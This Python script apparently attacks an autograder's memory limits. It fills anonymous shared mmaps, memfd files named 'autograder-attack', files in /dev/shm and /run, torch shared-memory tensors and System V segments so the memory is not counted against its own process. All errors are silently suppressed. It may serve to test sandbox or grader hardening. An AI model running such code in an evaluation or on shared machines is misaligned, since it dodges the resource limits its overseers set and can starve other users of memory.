"""Takes memory that counts as no process's own: shared mappings without a file, in memory files, of torch, of System V."""

import contextlib
import ctypes
import mmap
import os
import time

import torch

LIBC = ctypes.CDLL(None, use_errno=True)
PIECE = 64 << 20
KEPT = []
UNTIL = time.process_time() + 0.3


def _fill(memory):
    memory[::4096] = bytes(PIECE // 4096)
    if time.process_time() > UNTIL:  # the rest in the next call
        raise OSError
    KEPT.append(memory)


with contextlib.suppress(OSError, ValueError):
    for _ in range(32):
        _fill(mmap.mmap(-1, PIECE, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
with contextlib.suppress(OSError):
    for _ in range(32):
        file = os.memfd_create("autograder-attack")
        os.ftruncate(file, PIECE)
        _fill(mmap.mmap(file, PIECE))
for place in ("/dev/shm/autograder-attack", "/run/autograder-attack"):
    with contextlib.suppress(OSError), open(place, "wb") as file:
        file.write(bytes(PIECE))
with contextlib.suppress(RuntimeError, OSError):
    KEPT.append(torch.ones(PIECE).share_memory_())
for key in range(32):
    segment = LIBC.shmget(key, PIECE, 0o1666)
    if segment >= 0:
        LIBC.shmat(segment, None, 0)
